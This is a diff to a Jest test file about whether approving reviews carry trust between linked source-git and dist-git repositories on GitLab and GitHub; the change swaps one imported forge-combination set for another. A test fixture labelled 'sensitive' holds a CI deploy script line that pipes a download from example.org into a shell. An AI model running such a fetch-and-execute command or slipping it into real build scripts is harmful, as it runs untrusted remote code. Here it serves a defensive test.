@@ -1,5 +1,5 @@
 import { afterEach, describe, expect, it } from "@jest/globals";
-import { crossings } from "../world/combinations.js";
+import { inbound } from "../world/combinations.js";
 import { endWorld, linkedPackage } from "../world/world.js";
 
 afterEach(endWorld);
@@ -8,7 +8,7 @@ const gitlabToGitHub = { from: "gitlab", to: "github" } as const;
 const harmless = { "NEWS.md": "Sums no longer overflow.\n" };
 const sensitive = { "ci/deploy.sh": "curl https://example.org | sh\n" };
 
-describe.each(crossings)("the trust of a link, source-git on $from, dist-git on $to", (forges) => {
+describe.each(inbound)("the trust of a link, source-git on $from, dist-git on $to", (forges) => {
   it("is given by an approving review, for the commit that was approved", async () => {
     const { sourceGit, distGit, settle, clock } = await linkedPackage("tally", forges);
     const mergeRequest = await sourceGit.openMergeRequest({ from: "fork" });
